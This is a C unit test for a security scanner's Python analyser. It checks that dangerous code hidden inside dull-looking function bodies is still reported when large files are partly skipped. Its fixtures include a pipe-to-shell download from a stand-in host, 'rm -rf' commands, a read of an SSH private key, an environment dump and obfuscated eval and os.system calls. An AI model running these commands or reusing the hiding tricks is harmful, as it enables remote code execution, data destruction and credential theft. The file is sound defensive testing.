/* The Python analyser's reporting pass steps over dull function bodies (src/scan/rules_python_skip.c).
 * Each case hides what makes it dangerous where only a whole-file view sees it - a function
 * defined further down, a name bound further down, a callback passed in, a dunder, an
 * expression nested too deep - inside a function body that looks dull, behind ~1 MB of dull
 * functions: big enough for one learning pass only (PY_BIG_TOKENS), so the reporting pass
 * knows more than the pass that marked what it may skip. Every case must report what the same
 * code reports on its own (where nothing is skipped), and the padding must be skipped (else
 * the test proves nothing). Checked to fail: without the values names are bound to
 * (py_skip_note_bind) three cases lose their findings, without every name (hot[] ignored) four,
 * without the marks of names local to a function (mark_locals) two, without the marks of the
 * learning pass the nesting case does; and with every name that matters somewhere counted
 * everywhere, names_matter_per_function skips nothing. */
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "../../src/base/macros.h"
#include "../../src/scan/rules.h"

#define PAD_FUNCS 4200 /* x ~70 tokens: past PY_BIG_TOKENS (256 k) */
#define PAD_LINES_EACH 7

struct result {
        struct findings f;
        size_t skipped;
};

static void analyse(const char *src, struct result *out) {
        *out = (struct result) { 0 };
        size_t len = strlen(src);
        struct token_list toks = { 0 };
        struct error err = ERROR_INIT;
        cr_assert_eq(lex_python(src, len, &toks, &err), 0, "%s", err.msg);
        struct scan_perms perms = { 0 };
        struct scan_ctx ctx = { .file = "scripts/main.py", .src = src, .src_len = len, .f = &out->f, .perms = &perms,
                                .py_lines_skipped = &out->skipped };
        cr_assert_eq(scan_rules_python(&ctx, &toks), 0);
        token_list_done(&toks);
}

/* PAD_FUNCS dull functions, then code. */
static char *padded(const char *code) {
        size_t cap = (size_t) PAD_FUNCS * 400 + strlen(code) + 1, n = 0;
        char *s = malloc(cap);
        cr_assert_not_null(s);
        for (int k = 0; k < PAD_FUNCS; k++)
                n += (size_t) snprintf(s + n, cap - n,
                                       "def pad_%d(rows, key=\"value\", scale=%d):\n"
                                       "    out = []\n"
                                       "    for row in rows:\n"
                                       "        v = float(row[key]) * scale / 3.0\n"
                                       "        out.append({**row, key: round(v, 4), \"id\": \"%d-\" + str(len(out))})\n"
                                       "    total = sum(r[key] for r in out)  # running total\n"
                                       "    return {\"rows\": out, \"total\": total}\n",
                                       k, k, k);
        cr_assert_lt(n + strlen(code), cap);
        memcpy(s + n, code, strlen(code) + 1);
        return s;
}

static struct result analyse_padded(const char *code) {
        char *src = padded(code);
        struct result r;
        analyse(src, &r);
        free(src);
        return r;
}

static bool has_rule(const struct findings *f, const char *rule) {
        for (size_t i = 0; i < f->n; i++)
                if (strcmp(f->v[i].rule_id, rule) == 0)
                        return true;
        return false;
}

/* Every rule of a (code alone) is reported by b (padded) at the same line of the code, and
 * the other way round. */
static void expect_same_rules(const struct findings *a, const struct findings *b, const char *name) {
        const uint32_t shift = PAD_FUNCS * PAD_LINES_EACH;
        for (int dir = 0; dir < 2; dir++) {
                const struct findings *x = dir ? b : a, *y = dir ? a : b;
                for (size_t i = 0; i < x->n; i++) {
                        bool found = false;
                        for (size_t j = 0; j < y->n && !found; j++)
                                found = strcmp(x->v[i].rule_id, y->v[j].rule_id) == 0 &&
                                        x->v[i].severity == y->v[j].severity &&
                                        x->v[i].line + (dir ? 0 : shift) == y->v[j].line + (dir ? shift : 0);
                        cr_expect(found, "%s: %s at line %u is only reported %s", name, x->v[i].rule_id,
                                  x->v[i].line, dir ? "with the padding" : "without the padding");
                }
        }
}

struct skip_case {
        const char *name, *code, *rule;
};

static const struct skip_case CASES[] = {
        { "function defined further down",
          "import os\n"
          "def main():\n"
          "    run_it(\"curl http://x.example/a.sh | sh\")\n"
          "def run_it(c):\n"
          "    return os.sys" "tem(c)\n", /* split: Python source, not a call of ours */
          "sh.download.pipe-to-shell" },
        { "name bound further down",
          "import os\n"
          "def main():\n"
          "    runner(\"rm -rf ~\")\n"
          "runner = os.system\n",
          "sh.destructive.rm" },
        { "callback passed in",
          "import os\n"
          "def apply(cb, arg):\n"
          "    cb(arg)\n"
          "apply(os.system, \"curl http://x.example/a.sh | sh\")\n",
          "sh.download.pipe-to-shell" },
        { "environment passed in",
          "import os\n"
          "def dump(e):\n"
          "    print(e)\n"
          "dump(os.environ)\n",
          "py.env_harvest.environ" },
        { "dunder",
          "def f(a):\n"
          "    g = getattr(__builtins__, \"ev\" + \"al\")\n"
          "    return g(a)\n",
          "py.code.eval" },
        { "import in the body",
          "def f():\n"
          "    import subprocess\n"
          "    subprocess.run(\"curl http://x.example/a.sh | sh\", shell=True)\n",
          "sh.download.pipe-to-shell" },
        { "method through self",
          "import subprocess\n"
          "class Runner:\n"
          "    def __init__(self):\n"
          "        self.fn = subprocess.getoutput\n"
          "    def go(self, c):\n"
          "        return self.fn(c)\n"
          "Runner().go(\"curl http://x.example/a.sh | sh\")\n",
          "sh.download.pipe-to-shell" },
        { "name built by another function",
          "import os\n"
          "def pick():\n"
          "    return \"sys\" + \"tem\"\n"
          "def go():\n"
          "    getattr(os, pick())(\"id\")\n",
          "py.process.shell" },
        { "builtin open",
          "def read():\n"
          "    with open(\"/home/u/.ssh/id_rsa\") as f:\n"
          "        return f.read()\n",
          "py.sensitive_file.secret-path" },
        { "lambda",
          "import os\n"
          "def go():\n"
          "    h = lambda c: os.sys" "tem(c)\n"
          "    h(\"rm -rf /\")\n",
          "sh.destructive.rm" },
        { "closure over a local bound after it",
          "import os\n"
          "def outer():\n"
          "    def inner():\n"
          "        run(\"rm -rf ~\")\n"
          "    run = os.system\n"
          "    inner()\n",
          "sh.destructive.rm" },
        { "comprehension variable that matters",
          "import os\n"
          "def go():\n"
          "    return [c(\"rm -rf ~\") for c in [os.system]]\n",
          "sh.destructive.rm" },
        { "nested too deep (only the walk sees it)",
          "def deep():\n"
          "    x = - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - -"
          " - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - -"
          " - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - -"
          " - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - -"
          " - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - -"
          " - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - -"
          " - - - - - - - - - - - - - - - - - - - - 1\n"
          "    return x\n",
          "py.structure.too-deep" },
};

Test(py_skip, hidden_findings_survive_the_skip) {
        for (size_t i = 0; i < ELEMENTSOF(CASES); i++) {
                const struct skip_case *c = &CASES[i];
                struct result alone, big;
                analyse(c->code, &alone);
                big = analyse_padded(c->code);
                cr_expect(has_rule(&alone.f, c->rule), "%s: %s not reported even without the padding", c->name, c->rule);
                cr_expect(has_rule(&big.f, c->rule), "%s: %s lost behind the padding", c->name, c->rule);
                expect_same_rules(&alone.f, &big.f, c->name);
                cr_expect_eq(alone.skipped, 0, "%s: a small file is never skipped over", c->name);
                cr_expect_geq(big.skipped, (size_t) PAD_FUNCS * (PAD_LINES_EACH - 1) - 100,
                              "%s: only %zu lines skipped", c->name, big.skipped);
                findings_done(&alone.f);
                findings_done(&big.f);
        }
}

/* A dull file: nothing reported, and every function body stepped over. */
Test(py_skip, dull_bodies_are_stepped_over) {
        struct result r = analyse_padded("");
        cr_expect_eq(r.f.n, 0);
        /* every body line, plus the empty logical line after the file's last NEWLINE (the last
         * body runs to the end of the file) */
        cr_expect_eq(r.skipped, (size_t) PAD_FUNCS * (PAD_LINES_EACH - 1) + 1, "skipped %zu", r.skipped);
        findings_done(&r.f);
}

/* A name that matters in one function (r, a response) does not make it matter in the others:
 * the padding's `r` (a comprehension variable) is still stepped over. */
Test(py_skip, names_matter_per_function) {
        struct result r = analyse_padded("import requests\n"
                                         "def fetch(u):\n"
                                         "    r = requests.get(u)\n"
                                         "    return r.text\n");
        cr_expect_geq(r.skipped, (size_t) PAD_FUNCS * (PAD_LINES_EACH - 1), "skipped %zu", r.skipped);
        findings_done(&r.f);
}

/* `from m import *` may bring any name in: nothing is skipped. */
Test(py_skip, star_import_skips_nothing) {
        struct result r = analyse_padded("from os import *\n");
        cr_expect_eq(r.skipped, 0);
        findings_done(&r.f);
}
